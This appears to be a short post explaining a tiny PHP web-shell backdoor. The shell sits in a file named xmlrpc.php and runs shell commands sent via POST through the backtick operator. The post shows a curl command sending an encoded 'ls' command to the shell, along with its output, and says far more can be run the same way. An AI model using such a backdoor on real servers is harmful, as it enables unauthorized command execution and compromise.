This is one of the smallest backdoors that I am aware of that allows you to run server commands that are sent to it via a POST request.


Its small footprint is due to its use of the backtick operator as a short hand for the PHP function shell_exec:

Use of the backtick operator `` is identical to shell_exec().

shell_exec — Execute command via shell and return the complete output as a string


In order to use such a backdoor all you need to do is submit a POST request to the file containing the minishell. In this example the file is named xmlrpc.php and I submit the POST using the curl command in bash terminal:

└──╼  curl "localhost/xmlrpc.php" --data-raw "0=ls+-lhart+wordpress/"
total 27M
-r--r--r--  1 www-data www-data   31 Aug 14  2019 protecc_me.php-rwxrwxrwt  1 www-data www-data 1.5K Jan 13  2020 1.css
-rwxrwxrwt  1 www-data www-data 3.3K Jan 13  2020 bg1.png
-rwxrwxrwt  1 www-data www-data 1.6K Feb 24  2020 wp-atom2.php
-rwxrwxrwt  1 www-data www-data    0 Feb 24  2020 favicon.ico
-rwxrwxrwt  1 www-data www-data  418 Feb 24  2020 index.php-bkup
-rwxrwxrwt  1 www-data www-data  162 Mar  8  2020 w.txt

Just be sure to include the 0 variable and then your url encoded command that you want to run. The command I used for the example was ls -lhart wordpress/ but you can do a lot more than just lsing directories with it.

The only problem is that if there is a firewall in use it should detect and prevent thePOST request from going through sinceit is clearly malicious.